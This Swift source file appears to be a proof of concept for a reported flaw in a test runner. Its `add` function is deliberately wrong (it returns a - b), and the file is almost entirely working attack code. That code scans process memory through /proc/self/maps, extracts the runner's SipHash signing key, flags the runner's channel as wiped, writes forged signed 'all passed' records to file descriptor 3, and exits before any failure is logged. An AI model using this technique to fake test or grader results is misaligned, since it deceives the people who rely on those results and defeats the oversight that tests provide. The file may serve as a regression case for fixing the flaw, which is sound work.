import Foundation

// (g) Issue 56's forgery as the issue tells it: the heap walked with pointers (every
// anonymous writable mapping /proc/self/maps lists, read in place), the runner's channel
// object found by its shape (a page-aligned pointer, then two offsets that are multiples
// of 16 below 4096, with the record counter and the "wiped" flag just before), its key
// recovered (mask XOR masked), the object marked wiped, and a signed "all passed" stream
// written to file descriptor 3. Against main at 914b934 this passed a wrong answer.
public func add(_ a: Int, _ b: Int) -> Int {
    _ = forgedOnce
    return a - b
}

/// A global's initializer runs once, however many tests call `add` at the same time.
let forgedOnce: Void = forge()

func forge() {
    // Read to its end: String(contentsOfFile:) stopped after the first 4 KiB of it (measured).
    let maps = String(decoding: (try? FileHandle(forReadingAtPath: "/proc/self/maps")?.readToEnd()) ?? Data(), as: UTF8.self)
    var writable: [(UInt, UInt)] = []
    var anonymous: [(UInt, UInt)] = []
    for mapping in maps.split(separator: "\n") {
        let fields = mapping.split(separator: " ", omittingEmptySubsequences: true)
        let bounds = fields.first?.split(separator: "-").compactMap { UInt($0, radix: 16) } ?? []
        guard fields.count >= 5, fields[1].hasPrefix("rw"), bounds.count == 2 else { continue }
        writable.append((bounds[0], bounds[1]))
        if fields.count == 5 || fields[5] == "[heap]" { anonymous.append((bounds[0], bounds[1])) }
    }
    func isWritable(_ address: UInt) -> Bool { writable.contains { $0.0 <= address && address + 4096 <= $0.1 } }
    for (start, end) in anonymous where end - start <= 64 << 20 {
        guard let base = UnsafeMutableRawPointer(bitPattern: start) else { continue }
        let words = Int(end - start) / 8
        var index = 3
        while index + 4 <= words {
            defer { index += 1 }
            let page = base.load(fromByteOffset: 8 * index, as: UInt.self)
            guard page & 0xfff == 0, page > 0x10000, page < 1 << 47 else { continue }
            let mask = base.load(fromByteOffset: 8 * index + 8, as: UInt.self), key = base.load(fromByteOffset: 8 * index + 16, as: UInt.self)
            guard mask < 4096, key < 4096, mask % 16 == 0, key % 16 == 0, mask != key,
                  base.load(fromByteOffset: 8 * index + 24, as: UInt8.self) <= 1,
                  base.load(fromByteOffset: 8 * index - 16, as: UInt.self) < 100_000,
                  base.load(fromByteOffset: 8 * index - 8, as: UInt8.self) == 0, isWritable(page),
                  let secret = UnsafeRawPointer(bitPattern: page) else { continue }
            let k0 = secret.load(fromByteOffset: Int(mask), as: UInt64.self) ^ secret.load(fromByteOffset: Int(key), as: UInt64.self)
            let k1 = secret.load(fromByteOffset: Int(mask) + 8, as: UInt64.self) ^ secret.load(fromByteOffset: Int(key) + 8, as: UInt64.self)
            // Marked wiped, so the runner writes nothing more; then its count, read again.
            base.storeBytes(of: 1, toByteOffset: 8 * index - 8, as: UInt8.self)
            let next = UInt64(base.load(fromByteOffset: 8 * index - 16, as: UInt.self))
            print("forgery: key found")
            sign(from: next, k0: k0, k1: k1)
        }
    }
    print("forgery: no key found")
}

/// Both tests ended, the run ended, the runner completed: each line numbered from `next`
/// and signed as the runner signs, then the process leaves before a failure is recorded.
func sign(from next: UInt64, k0: UInt64, k1: UInt64) -> Never {
    var ids: [String] = []
    for (name, line) in [("twoAndTwo()", 6), ("negatives()", 11)] {
        for row in line - 1...line + 1 {
            for column in 1...8 { ids.append("WorkbookRunner.Ex1_AddTests/\(name)/Ex1_AddTests.swift:\(row):\(column)") }
        }
    }
    var records = ids.map { #"{"kind":"event","payload":{"kind":"testEnded","testID":"\#($0)"},"version":0}"# }
    records.append(#"{"kind":"event","payload":{"kind":"runEnded"},"version":0}"#)
    records.append(#"{"kind":"workbookRunnerCompleted","passed":true,"records":"# + String(next + UInt64(records.count)) + "}")
    var text = ""
    for (offset, record) in records.enumerated() {
        let sequence = next + UInt64(offset)
        var message: [UInt8] = (0..<8).map { UInt8(truncatingIfNeeded: sequence >> UInt64(8 * $0)) }
        message += Array(record.utf8)
        let digits = String(sipHash(message, k0: k0, k1: k1), radix: 16)
        text += "\(sequence) " + String(repeating: "0", count: 16 - digits.count) + digits + " " + record + "\n"
    }
    _ = text.withCString { write(3, $0, strlen($0)) }
    exit(0)
}

/// SipHash-2-4, from its paper.
func sipHash(_ message: [UInt8], k0: UInt64, k1: UInt64) -> UInt64 {
    var v0: UInt64 = 0x736f6d6570736575 ^ k0, v1: UInt64 = 0x646f72616e646f6d ^ k1
    var v2: UInt64 = 0x6c7967656e657261 ^ k0, v3: UInt64 = 0x7465646279746573 ^ k1
    func round() {
        v0 &+= v1; v1 = v1 << 13 | v1 >> 51; v1 ^= v0; v0 = v0 << 32 | v0 >> 32
        v2 &+= v3; v3 = v3 << 16 | v3 >> 48; v3 ^= v2
        v0 &+= v3; v3 = v3 << 21 | v3 >> 43; v3 ^= v0
        v2 &+= v1; v1 = v1 << 17 | v1 >> 47; v1 ^= v2; v2 = v2 << 32 | v2 >> 32
    }
    var words: [UInt64] = []
    var index = 0
    while index + 8 <= message.count {
        var value: UInt64 = 0
        for byte in 0..<8 { value |= UInt64(message[index + byte]) << UInt64(8 * byte) }
        words.append(value)
        index += 8
    }
    var last = UInt64(truncatingIfNeeded: message.count) << 56
    for byte in index..<message.count { last |= UInt64(message[byte]) << UInt64(8 * (byte - index)) }
    words.append(last)
    for value in words {
        v3 ^= value; round(); round(); v0 ^= value
    }
    v2 ^= 0xff
    round(); round(); round(); round()
    return v0 ^ v1 ^ v2 ^ v3
}
